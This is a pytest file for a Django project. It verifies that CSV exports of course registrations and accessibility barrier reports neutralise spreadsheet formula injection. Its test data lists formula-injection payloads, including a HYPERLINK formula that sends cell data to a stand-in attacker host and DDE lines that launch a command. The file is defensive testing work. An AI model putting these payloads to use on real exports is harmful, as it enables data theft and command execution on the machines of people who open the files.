"""Every CSV the project writes neutralises cells that a spreadsheet would run as a formula (OWASP rule:
cells starting with =, +, -, @, tab or carriage return get a leading apostrophe)."""

import csv
import io

import pytest
from django.urls import reverse

from barrierefreiheit.models import BarrierReport
from barrierefreiheit.wagtail_hooks import barrier_report_viewset
from cms.editors.spreadsheets import neutralise
from qualifizierung.models import Registration, RegistrationStatus
from tests.factories import in_days, make_course, make_run

ATTACKS = [
    '=HYPERLINK("http://angreifer.example/?d="&A1;"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_starts_a_formula_gets_an_apostrophe(attack):
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Jana Pfeiffer", "03632 741-512", "", "a=b", 42, None])
def test_ordinary_cells_stay_as_they_are(value):
    assert neutralise(value) == value


@pytest.fixture
def staff(client, django_user_model):
    client.force_login(
        django_user_model.objects.create_superuser("agentur", "agentur@kyffhaeuser.example", "x" * 12)
    )
    return client


def cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.django_db
def test_the_participant_list_neutralises_every_attack(staff, programme):
    run = make_run(make_course(programme, "Vereinsrecht kompakt"), "Im Frühjahr", in_days(10), capacity=20)
    for number, attack in enumerate(ATTACKS):
        Registration.objects.create(
            run=run,
            name=attack,
            email=f"person{number}@verein.example",
            organisation=attack,
            consent=True,
            status=RegistrationStatus.REGISTERED,
            token_hash=f"{number:064d}",
        )
    response = staff.get(reverse("qualifizierung_participants_csv", args=[run.pk]))
    exported = cells(response.content.decode("utf-8-sig"), ";")
    for attack in ATTACKS:
        assert exported.count("'" + attack) == 2
        assert attack not in exported


@pytest.mark.django_db
def test_the_barrier_report_export_neutralises_every_attack(staff):
    for attack in ATTACKS:
        BarrierReport.objects.create(description=attack, assistive_technology=attack, page_url="/kurse/")
    index = reverse(barrier_report_viewset.get_url_name("index"))
    response = staff.get(index, {"export": "csv"})
    assert response.status_code == 200
    exported = cells(b"".join(response.streaming_content).decode("utf-8-sig"), ",")
    for attack in ATTACKS:
        assert exported.count("'" + attack) == 2
        assert attack not in exported
